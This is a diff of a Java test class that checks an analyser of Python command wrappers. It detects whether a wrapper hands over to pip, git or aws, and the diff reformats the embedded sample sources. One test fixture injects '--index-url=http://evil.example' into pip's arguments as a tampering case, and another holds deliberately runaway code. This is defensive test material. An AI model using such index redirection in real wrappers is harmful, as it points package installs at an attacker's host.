@@ -144,8 +144,13 @@ class AnalysisTest {
   void inProcessCallWithArgumentsAddedIsTampering() {
     Sources sources =
         Sources.of(
-                "import sys\ndef main():\n    sys.argv.insert(1, '--index-url=http://evil.example')\n"
-                    + "    from pip.main import main as real\n    real()\n")
+                """
+                import sys
+                def main():
+                    sys.argv.insert(1, '--index-url=http://evil.example')
+                    from pip.main import main as real
+                    real()
+                """)
             .withOther("pip.main", "pip")
             .as("pip");
     assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:pip process");
@@ -155,8 +160,11 @@ class AnalysisTest {
   void shippedShellScriptIsRead() {
     Sources sources =
         Sources.of(
-                "import os, subprocess\ndef main():\n"
-                    + "    subprocess.call([os.path.join(os.path.dirname(__file__), 'run.sh')])\n")
+                """
+                import os, subprocess
+                def main():
+                    subprocess.call([os.path.join(os.path.dirname(__file__), 'run.sh')])
+                """)
             .withFile("run.sh", "#!/bin/sh\nexec /usr/bin/git \"$@\"\n")
             .as("git");
     assertThat(Sources.summary(sources.analyse())).isEqualTo("hands-over:git");
@@ -240,10 +248,23 @@ class AnalysisTest {
   @Test
   void growingTextsEnd() {
     String source =
-        "def main():\n    s = 'x'\n    while True:\n        s = s + s\n        t = (s * 4000) * 4000\n"
-            + "    a = [1]\n    a.append(a)\n    for b in a:\n        print(b)\n"
-            + "    d = {}\n    d['d'] = d\n    print('%s' % d, str(a))\n    f(*a, **d)\n"
-            + "def f(*a, **k):\n    f(*a, **k)\n";
+        """
+        def main():
+            s = 'x'
+            while True:
+                s = s + s
+                t = (s * 4000) * 4000
+            a = [1]
+            a.append(a)
+            for b in a:
+                print(b)
+            d = {}
+            d['d'] = d
+            print('%s' % d, str(a))
+            f(*a, **d)
+        def f(*a, **k):
+            f(*a, **k)
+        """;
     assertThat(Sources.summary(Sources.of(source).analyse())).isEmpty();
   }
 
@@ -273,8 +294,11 @@ class AnalysisTest {
             new Subject(List.of("aws", "aws2"), "d", Map.of("x", Set.of())),
             new Program.Entry(new EntryPoint("pkg.cli", "main"), Path.of("/env/bin/aws")),
             Sources.of(
-                "import os, sys\ndef main():\n"
-                    + "    os.execv('/usr/bin/' + os.path.basename(sys.argv[0]), sys.argv)\n"));
+                """
+                import os, sys
+                def main():
+                    os.execv('/usr/bin/' + os.path.basename(sys.argv[0]), sys.argv)
+                """));
     assertThat(Sources.summary(behaviour)).isEqualTo("hands-over:aws hands-over:aws2");
   }
 }
